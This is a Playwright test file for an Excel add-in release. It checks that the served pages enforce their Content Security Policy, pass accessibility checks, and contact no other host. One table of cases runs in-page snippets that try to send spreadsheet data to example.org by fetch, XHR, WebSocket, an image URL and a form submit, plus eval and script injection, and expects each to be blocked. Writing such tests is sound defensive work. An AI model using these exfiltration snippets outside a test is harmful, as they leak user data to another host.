import { existsSync, readFileSync, rmSync } from "node:fs";
import type { Server } from "node:http";
import { join } from "node:path";
import type { Browser, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { servedHeaders } from "../../release/headers";
import { builtRelease, HOST } from "../release/built";
import { startBrowser } from "./browser";
import { addressOf, fileAt, serveFiles } from "./file-server";
import { accessibilityFaults } from "./workbench-page";

const CDN = "https://officeapis.public.onecdn.static.microsoft/1/";

let browser: Browser;
let server: Server;
let folder: string;
let page: Page;
let asked: string[];
let complaints: string[];

/** Serves the folder to this machine with the headers that the release asks of a server. */
function serve(site: string): Promise<Server> {
  const headers = servedHeaders(readFileSync(join(site, "taskpane/taskpane.html"), "utf8"));
  // A browser keeps to HTTPS for a year where it is told to, and this is HTTP.
  const { "Strict-Transport-Security": _, ...rest } = headers.everywhere;
  return serveFiles((path) => {
    const file = fileAt(site, path);
    return file === null ? null : { content: readFileSync(file), headers: { ...rest, "Cache-Control": file.endsWith(".html") ? headers.pages : headers.hashed } };
  });
}

const address = () => addressOf(server);

beforeAll(async () => {
  ({ folder } = builtRelease("--host", HOST));
  server = await serve(join(folder, "site"));
  browser = await startBrowser();
}, 120_000);
afterAll(async () => {
  await browser.close();
  server.close();
  rmSync(folder, { recursive: true });
});

beforeEach(async () => {
  page = await browser.newPage();
  asked = [];
  complaints = [];
  page.on("request", (request) => asked.push(request.url()));
  page.on("console", (message) => {
    if (message.type() === "error" || /Content Security Policy/.test(message.text())) complaints.push(message.text());
  });
  page.on("pageerror", (error) => complaints.push(String(error)));
  // Microsoft's own script, as its package has it, at the address that the page names.
  await page.route(`${CDN}**`, (route) => {
    const file = join("node_modules/@microsoft/office-js/dist", new URL(route.request().url()).pathname.slice(3));
    return existsSync(file) ? route.fulfill({ path: file, contentType: "text/javascript" }) : route.abort();
  });
});
afterEach(() => page.close());

const elsewhere = () => asked.filter((url) => !url.startsWith(address()) && !url.startsWith(CDN) && !url.startsWith("data:"));

describe("the release, served under its own policy, with Microsoft's script", () => {
  it("outside Excel says where to open it; nothing breaks the policy, and nothing is asked of any other host", async () => {
    await page.goto(`${address()}taskpane/taskpane.html`);
    await page.getByRole("heading", { name: "Open this in Excel" }).waitFor({ timeout: 30_000 });
    await page.getByText(/^Guide · Version \d+\.\d+\.\d+$/).waitFor();
    expect(await accessibilityFaults(page.mainFrame())).toEqual([]);
    expect(complaints).toEqual([]);
    expect(elsewhere()).toEqual([]);
  });

  it("where Microsoft's script does not come, says so and whom to ask", async () => {
    await page.unroute(`${CDN}**`);
    await page.route(`${CDN}**`, (route) => route.abort());
    await page.goto(`${address()}taskpane/taskpane.html`);
    await page.getByRole("heading", { name: "Excel did not answer" }).waitFor({ timeout: 30_000 });
    expect(elsewhere()).toEqual([]);
  });

  it.each<[string, string, RegExp]>([
    ["a request to another host", 'fetch("https://example.org/").then(() => "went", String)', /TypeError: Failed to fetch/],
    ["an old-fashioned request", 'new Promise((told) => { const x = new XMLHttpRequest(); x.open("POST", "https://example.org/"); x.onload = () => told("went"); x.onerror = () => told("barred"); x.send("cells"); })', /^barred$/],
    ["a socket", 'new Promise((told) => { const s = new WebSocket("wss://example.org/"); s.onopen = () => told("went"); s.onerror = () => told("barred"); })', /^barred$/],
    // By a timer: what the test itself runs as text is let through.
    ["text run as code", 'new Promise((told) => { setTimeout("window.ran = true", 0); setTimeout(() => told(String(window.ran)), 300); })', /^undefined$/],
    ["a script put into the page", '(() => { const s = document.createElement("script"); s.textContent = "window.ran = true"; document.body.append(s); return String(window.ran); })()', /^undefined$/],
    ["a picture from elsewhere", 'new Promise((told) => { const i = new Image(); i.onload = () => told("went"); i.onerror = () => told("barred"); i.src = "https://example.org/?cells"; })', /^barred$/],
    ["a form that leaves", '(() => { const f = document.createElement("form"); f.action = "https://example.org/"; document.body.append(f); f.submit(); return new Promise((told) => setTimeout(() => told(location.host.split(":")[0]), 500)); })()', /^127\.0\.0\.1$/],
  ])("the policy bars %s", async (_, code, told) => {
    await page.goto(`${address()}guides/user.html`);
    expect(await page.evaluate(code)).toMatch(told);
    expect(complaints.join("\n")).toMatch(/Content Security Policy/);
  });

  it.each(["user", "administrator"])("the guide for the %s is a page of its own, with its pictures and without faults", async (guide) => {
    await page.goto(`${address()}guides/${guide}.html`);
    expect(await accessibilityFaults(page.mainFrame())).toEqual([]);
    const broken = await page.evaluate(() => [...document.images].filter(({ naturalWidth }) => naturalWidth === 0).map(({ src }) => src));
    expect(broken).toEqual([]);
    expect(complaints).toEqual([]);
  });
});
